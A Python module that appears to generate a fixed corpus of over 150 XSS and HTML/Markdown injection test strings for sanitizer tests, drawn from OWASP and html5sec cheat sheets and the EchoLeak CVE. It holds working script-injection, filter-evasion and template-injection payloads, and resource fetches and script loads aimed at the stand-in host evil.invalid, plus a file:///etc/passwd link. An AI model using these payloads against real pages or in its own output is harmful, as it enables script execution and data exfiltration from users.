"""Texts that try to become something else on a page: scripts, pictures, links, forms, styles, frames, templates.

After the OWASP XSS Filter Evasion Cheat Sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
the HTML5 Security Cheatsheet (https://html5sec.org/) and EchoLeak (CVE-2025-32711) for links in Markdown.
"""

from __future__ import annotations

OUTSIDE = "http://evil.invalid"
"""What no page may ask for anything."""
CALL = "trip(1)"
"""What no page may run."""

ELEMENTS = ("img", "video", "audio", "input", "svg", "body", "iframe", "object", "embed", "details", "math", "marquee")
HANDLERS = ("onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle open", "onanimationstart", "onmouseover")
SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    " javascript:{call}",
    "&#106;avascript:{call}",
    "javascript&colon;{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD50cmlwKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "{outside}/link",
    "//evil.invalid/link",
    "blob:{outside}/x",
    "file:///etc/passwd",
)
LINKS = (
    '<a href="{to}">x</a>',
    "[x]({to})",
    "![x]({to})",
    "[x][1]\n\n[1]: {to}",
    "![x][1]\n\n[1]: {to}",
    "<{to}>",
)
SCRIPTS = (
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<script src={outside}/x.js></script>",
    "<script/src=//evil.invalid/x.js>",
    "<<script>{call}//<</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script type=module>import '{outside}/x.js'</script>",
    "</script><script>{call}</script>",
    "</style><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onmouseover="{call}" autofocus onfocus="{call}" x="',
    "' onfocus='{call}' autofocus tabindex='1",
    "` onerror=`{call}`",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "<script\u200b>{call}</script>",
    "${{{call}}}",
    "${{(()=>{call})()}}",
    "{{{{{call}}}}}",
    "{{{{{{value}}}}}}{{{{constructor.constructor('{call}')()}}}}",
    "<%= {call} %>",
    "#{{{call}}}",
    "`;{call};`",
    "\\`${{{call}}}",
    "';{call};//",
    '";{call};//',
)
FETCHES = (
    "<img src={outside}/a.png>",
    "<img srcset='{outside}/a.png 1x'>",
    "<picture><source srcset={outside}/a.png><img></picture>",
    "<input type=image src={outside}/a.png>",
    "<video poster={outside}/a.png src={outside}/a.mp4></video>",
    "<audio src={outside}/a.mp3 autoplay></audio>",
    "<track src={outside}/a.vtt>",
    "<link rel=stylesheet href={outside}/a.css>",
    "<link rel=prefetch href={outside}/a>",
    "<link rel=dns-prefetch href={outside}>",
    "<link rel=preconnect href={outside}>",
    "<style>@import '{outside}/a.css';</style>",
    "<style>*{{background:url({outside}/a.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({outside}/a.woff)}}*{{font-family:x}}</style>",
    "<p style='background:url({outside}/a.png)'>x</p>",
    "<p style='width:expression({call})'>x</p>",
    "<iframe src={outside}></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<object data={outside}/a.svg></object>",
    "<embed src={outside}/a.svg>",
    "<base href={outside}/>",
    "<meta http-equiv=refresh content='0;url={outside}/'>",
    "<form action={outside}/><button>x</button></form>",
    "<form id=f></form><button form=f formaction='javascript:{call}'>x</button>",
    "<table background={outside}/a.png><tr><td>x</table>",
    "<table><tr><td>|<img src=x onerror={call}>|</td></tr></table>",
    "| a |\n|---|\n| <img src=x onerror={call}> ![x]({outside}/a.png) |",
    "```html\n<img src=x onerror={call}>\n```",
    "`<img src=x onerror={call}>`",
    "$\\href{{javascript:{call}}}{{x}}$",
    "$$\\unicode{{<img src=x onerror={call}>}}$$",
    "\\(\\includegraphics{{{outside}/a.png}}\\)",
    "<math><maction actiontype=statusline xlink:href='javascript:{call}'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
    "<svg><image href={outside}/a.png /></svg>",
    "<svg><use href='{outside}/a.svg#x'/></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<svg><style>@import '{outside}/a.css';</style></svg>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<dialog open onclose={call}><form method=dialog><button>x</button></form></dialog>",
    "<button data-act='panel' onclick={call}>x</button>",
    "<p data-copy='x' data-question='{call}' id='wj-page'>x</p>",
    "<portal src={outside}></portal>",
    "<isindex action=javascript:{call}>",
    "<xss contenteditable onbeforeinput={call} autofocus>x</xss>",
    "\u202e<img src=x onerror={call}>\u202c",
    "\ufeff<img src=x onerror={call}>",
    "<img\u0000src=x onerror={call}>",
    "<img src=x:x onerror\n=\n{call}>",
    "<img src=`x`onerror={call}>",
    "𠮷<img src=x onerror={call}>𠮷",
)


def payloads() -> list[str]:
    """Return every text once, always in the same order; ``trip`` is what a script of one would call.

    >>> len(payloads()) >= 150
    True
    """
    handlers = [f"<{name} src=x {event}={CALL}>" for name in ELEMENTS for event in HANDLERS]
    linked = [link.format(to=scheme) for scheme in SCHEMES for link in LINKS]
    found = [*SCRIPTS, *FETCHES, *linked]
    return list(dict.fromkeys([*(text.format(call=CALL, outside=OUTSIDE) for text in found), *handlers]))
